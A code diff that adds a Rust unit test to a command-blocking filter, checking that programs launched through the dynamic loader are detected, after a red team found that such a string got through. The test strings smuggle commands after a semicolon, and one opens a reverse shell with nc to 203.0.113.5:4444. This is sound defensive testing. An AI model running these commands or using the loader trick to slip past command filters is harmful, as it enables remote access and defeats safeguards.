@@ -175,3 +175,16 @@ fn ssh_public_keys_are_not_commands() {
     }
     assert!(blocked("ssh-keygen -t rsa -f /tmp/k"));
 }
+
+/// The dynamic loader runs the binary it is given: that binary is in command position
+/// (third red team's finding: `lib64/ld-linux-x86-64.so.2 bin/sh -c id` passed).
+#[test]
+fn programs_run_through_the_dynamic_loader_are_commands() {
+    for text in [
+        "x; lib64/ld-linux-x86-64.so.2 bin/sh -c id",
+        "x; /lib/ld-linux.so.2 /usr/bin/id",
+        "x; lib/ld-musl-x86_64.so.1 usr/bin/nc -e sh 203.0.113.5 4444",
+    ] {
+        assert!(blocked(text), "{text}: {:?}", score(text));
+    }
+}
